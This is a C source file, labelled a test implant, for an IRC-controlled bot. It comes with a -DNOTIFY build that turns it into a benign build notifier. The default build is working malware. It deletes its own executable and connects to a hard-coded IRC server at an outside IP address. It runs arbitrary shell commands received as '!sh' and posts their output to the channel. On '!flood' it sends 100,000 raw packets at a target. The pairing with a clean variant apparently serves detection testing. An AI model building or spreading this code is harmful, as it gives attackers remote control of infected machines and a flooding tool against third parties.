/* Test implant (never executed): an IRC-controlled bot. It deletes its own
 * executable, connects to a hard-coded IRC server, registers (NICK, USER),
 * joins a channel and obeys commands sent to it in PRIVMSG: "!sh CMD" runs
 * a command through popen and sends its output back, "!flood IP" sends raw
 * UDP packets with forged headers to a target.
 * -DNOTIFY: the clean counterpart, a build notifier that joins the channel
 * and posts a line but runs nothing and floods nothing. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SERVER "185.61.137.20"
#define CHANNEL "#b0ts"

static int irc;

static void say(const char *fmt, const char *a, const char *b)
{
	char line[600];
	int n = snprintf(line, sizeof(line), fmt, a, b);
	if (n > 0)
		write(irc, line, (size_t)n < sizeof(line) ? (size_t)n : sizeof(line) - 1);
}

#ifndef NOTIFY
static void run(const char *cmd)
{
	char out[400];
	FILE *p = popen(cmd, "r");
	if (!p)
		return;
	while (fgets(out, sizeof(out), p))
		say("PRIVMSG " CHANNEL " :%s%s\r\n", out, "");
	pclose(p);
}

static void flood(const char *target)
{
	unsigned char pkt[1024];
	struct sockaddr_in to;
	int i, one = 1, r = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (r < 0)
		return;
	setsockopt(r, IPPROTO_IP, 3 /* IP_HDRINCL */, &one, sizeof(one));
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_addr.s_addr = inet_addr(target);
	for (i = 0; i < 100000; i++) {
		memset(pkt, i, sizeof(pkt));
		sendto(r, pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to));
	}
	close(r);
}
#endif

int main(int argc, char **argv)
{
	struct sockaddr_in a;
	char buf[1024];
	ssize_t n;
	(void)argc;
#ifndef NOTIFY
	unlink(argv[0]);
#endif
	irc = socket(AF_INET, SOCK_STREAM, 0);
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(6667);
	a.sin_addr.s_addr = inet_addr(SERVER);
	if (connect(irc, (struct sockaddr *)&a, sizeof(a)) != 0)
		return 1;
	say("NICK %s\r\nUSER %s 0 * :bot\r\n", "x1337", "x1337");
	say("JOIN %s%s\r\n", CHANNEL, "");
	while ((n = read(irc, buf, sizeof(buf) - 1)) > 0) {
		char *m;
		buf[n] = 0;
		if (strncmp(buf, "PING", 4) == 0) {
			buf[1] = 'O';
			write(irc, buf, (size_t)n);
		}
		if (!(m = strstr(buf, "PRIVMSG " CHANNEL " :!")))
			continue;
		m += sizeof("PRIVMSG " CHANNEL " :!") - 1;
		m[strcspn(m, "\r\n")] = 0;
#ifdef NOTIFY
		if (strncmp(m, "status", 6) == 0)
			say("PRIVMSG " CHANNEL " :%s%s\r\n", "build ok", "");
#else
		if (strncmp(m, "sh ", 3) == 0)
			run(m + 3);
		else if (strncmp(m, "flood ", 6) == 0 && fork() == 0)
			flood(m + 6), _exit(0);
#endif
	}
	return 0;
}
